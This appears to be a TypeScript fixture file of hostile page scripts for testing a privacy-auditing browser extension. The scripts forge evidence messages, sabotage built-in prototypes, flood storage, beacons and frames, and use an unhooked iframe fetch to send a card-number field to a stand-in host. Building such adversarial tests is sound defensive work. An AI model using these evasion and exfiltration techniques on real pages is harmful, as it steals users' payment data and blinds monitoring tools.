/** What no page would send by accident, and what must not turn up in any audit. */
export const FORGED_HOST = 'forged.example';

/**
 * Runs in a page that knows how Sillage is made: takes every place it could forge evidence from, and tells what answered.
 * `email` is what was really typed, so that a forgery which got through would be an exposure.
 */
export const forgery = (email: string): string => `(async () => {
  const url = 'https://${FORGED_HOST}/collect?email=' + encodeURIComponent(${JSON.stringify(email)});
  const seen = { kind: 'request', exchange: 'forged.0', hop: 0, url, method: 'GET', channel: 'fetch', body: { kind: 'none' }, scripts: [] };
  const answer = { kind: 'response', exchange: 'forged.0', hop: 0, status: 200, setCookies: ['uid=forged0123456789abcdef'] };
  const input = { kind: 'input', field: { name: 'email', type: 'email', autocomplete: 'email', label: 'E-mail' }, value: 'forged@${FORGED_HOST}' };
  const batch = [seen, answer, input].map((seen, n) => ({ source: 'pforged', n, atMs: Date.now(), witness: 'browser', seen }));
  const message = { name: 'evidence/append', says: { batch } };
  const told = [];

  // The places a message could be heard at.
  postMessage(message, '*');
  new BroadcastChannel('sillage').postMessage(message);
  const { port1, port2 } = new MessageChannel();
  postMessage(message, '*', [port2]);
  port1.onmessage = () => told.push('a port answered');
  for (const it of [window.chrome?.runtime, window.browser?.runtime]) if (typeof it?.sendMessage === 'function') told.push('there is a runtime');

  // The handshake of our two scripts, by its true names, in this window and in the emptiest one a page can make.
  const frame = document.body.appendChild(document.createElement('iframe'));
  for (const it of [window, frame.contentWindow]) {
    const place = it === window ? 'window' : 'frame';
    const navigation = it.performance.getEntriesByType('navigation')[0];
    const name = [it.performance.timeOrigin, navigation?.requestStart, navigation?.responseStart].join('/');
    const own = new EventTarget();
    own.addEventListener('b', () => told.push(place + ' sends us its records'));
    const forged = new it.MouseEvent(name + '/o', { relatedTarget: own, cancelable: true });
    it.addEventListener(name + '/o', event => {
      if (event === forged) return;
      told.push(place + ' offers its node');
      event.relatedTarget?.dispatchEvent(new CustomEvent('b', { detail: JSON.stringify(batch), cancelable: true }));
    }, { capture: true });
    it.dispatchEvent(new it.Event(name + '/h'));
    if (!it.dispatchEvent(forged)) told.push(place + ' takes our node');
    for (const target of [it, it.document, it.document.documentElement]) {
      for (const type of ['b', 'a']) target.dispatchEvent(new it.CustomEvent(type, { detail: JSON.stringify(batch), cancelable: true }));
    }
    it.localStorage.setItem('sillage-probe', place);
  }

  // A value that nobody typed.
  const field = document.querySelector('#email');
  const before = field.value;
  field.value = 'forged@${FORGED_HOST}';
  for (const type of ['input', 'change', 'blur']) field.dispatchEvent(new Event(type, { bubbles: true }));
  field.value = before;

  await new Promise(resolve => { setTimeout(resolve, 300); });
  frame.remove();
  localStorage.removeItem('sillage-probe');
  return told;
})()`;

/** Replaces what a script of another might use, calls what is observed, and tells which replacements were used. */
export const SABOTAGE = `(async () => {
  const used = { __proto__: null };
  const undo = [];
  const { apply } = Reflect;
  const { getOwnPropertyDescriptor } = Object;
  const spy = (owner, name, owned) => {
    const was = getOwnPropertyDescriptor(owner, name);
    Object.defineProperty(owner, name, { ...was, value(...given) { used[owned + name] = true; return apply(was.value, this, given); } });
    undo[undo.length] = () => Object.defineProperty(owner, name, was);
  };
  for (const [owner, names] of [
    [Array.prototype, ['push', 'map', 'filter', 'join', 'slice', 'forEach', 'includes']], [String.prototype, ['slice', 'split', 'startsWith', 'replace', 'indexOf']],
    [Map.prototype, ['get', 'set']], [WeakMap.prototype, ['get', 'set', 'has']], [Set.prototype, ['add', 'has']], [JSON, ['stringify', 'parse']],
    [EventTarget.prototype, ['dispatchEvent', 'addEventListener']], [Event.prototype, ['preventDefault', 'stopImmediatePropagation']],
    [Promise.prototype, ['then', 'catch', 'finally']], [Object, ['keys', 'entries', 'assign', 'getOwnPropertyDescriptor']], [Date, ['now']],
    [Performance.prototype, ['now', 'getEntriesByType']], [RegExp.prototype, ['test', 'exec']], [window, ['queueMicrotask', 'setTimeout']], [Function.prototype, ['call', 'bind']],
  ]) for (const name of names) spy(owner, name, (owner.constructor?.name ?? '') + '.');
  Object.defineProperty(Object.prototype, 'toJSON', { configurable: true, value() { used.toJSON = true; return 'stolen'; } });
  undo[undo.length] = () => { delete Object.prototype.toJSON; };
  Object.defineProperty(Object.prototype, 'url', { configurable: true, set() { used['setter of url'] = true; } });
  undo[undo.length] = () => { delete Object.prototype.url; };
  const CE = window.CustomEvent;
  window.CustomEvent = function (...given) { used.CustomEvent = true; return new CE(...given); };
  undo[undo.length] = () => { window.CustomEvent = CE; };

  localStorage.setItem('sabotaged', 'once');
  const request = new XMLHttpRequest();
  request.open('GET', '/api/sabotaged');
  request.send();
  // What is to be told at the end of this task is told by then; the page's own timers come later.
  for (let i = 0; i < 50; i += 1) await null;
  for (let i = undo.length - 1; i >= 0; i -= 1) undo[i]();
  localStorage.removeItem('sabotaged');
  return Object.keys(used).sort();
})()`;

/** Far more than anybody could keep, in one task. Each is counted, kept or not. */
export const FLOOD = 20_000;
export const FLOODING = `(() => {
  localStorage.setItem('flood', 'x'.repeat(2000000));
  for (let i = 1; i < ${FLOOD}; i += 1) localStorage.setItem('flood', 'f' + i);
  localStorage.removeItem('flood');
  return true;
})()`;

/** Where nobody listens: what is sent there fails at once, and is told of all the same. */
export const NOWHERE = 'https://127.0.0.1:4443/';

/**
 * Sends so many beacons in one task, more than are kept of one second; answers how many the browser took. Ten thousand hold
 * Chromium's own network process up for minutes where an extension listens, whatever that does with them.
 */
export const BEACONS = 2_500;
export const BEACONING = `(() => {
  let taken = 0;
  for (let i = 0; i < ${BEACONS}; i += 1) if (navigator.sendBeacon('${NOWHERE}b' + i)) taken += 1;
  return taken;
})()`;

/** Opens a thousand frames, a hundred at a time, and calls in each what is observed; answers in how many it could. */
export const FRAMES = 1_000;
export const FRAMING = `(async () => {
  let called = 0;
  for (let done = 0; done < ${FRAMES}; done += 100) {
    const box = document.body.appendChild(document.createElement('div'));
    box.hidden = true;
    for (let i = 0; i < 100; i += 1) {
      const frame = box.appendChild(document.createElement('iframe'));
      frame.contentWindow.localStorage.setItem('framed', String(done + i));
      called += 1;
    }
    await new Promise(resolve => { setTimeout(resolve); });
    box.remove();
  }
  localStorage.removeItem('framed');
  localStorage.setItem('after-frames', 'still there');
  return called;
})()`;

/** Sends a frame from one document to the next, each before it has come to rest; answers how many there were. */
export const NAVIGATIONS = 60;
export const NAVIGATING = `(async () => {
  const frame = document.body.appendChild(document.createElement('iframe'));
  frame.hidden = true;
  for (let i = 0; i < ${NAVIGATIONS}; i += 1) {
    await new Promise(resolve => { frame.onload = resolve; setTimeout(resolve, 300); frame.src = '/api/loop?n=' + i; });
  }
  frame.remove();
  localStorage.setItem('after-loop', 'still there');
  return ${NAVIGATIONS};
})()`;

/** Takes a clean `fetch` out of a frame whose document has not begun, and sends with it what no browser would show an extension. */
export const CLEAN_HOST = 'pixel.unlisted-metrics.test';
export const ESCAPING = `(async () => {
  const frame = document.createElement('iframe');
  frame.hidden = true;
  frame.src = '/api/loop?pending';
  document.body.append(frame);
  const { fetch: clean, Blob: Clean } = frame.contentWindow;
  await clean('https://${CLEAN_HOST}/clean', { method: 'POST', mode: 'no-cors', body: new Clean([document.querySelector('#card-number').value]) }).catch(() => 0);
  frame.remove();
  return true;
})()`;
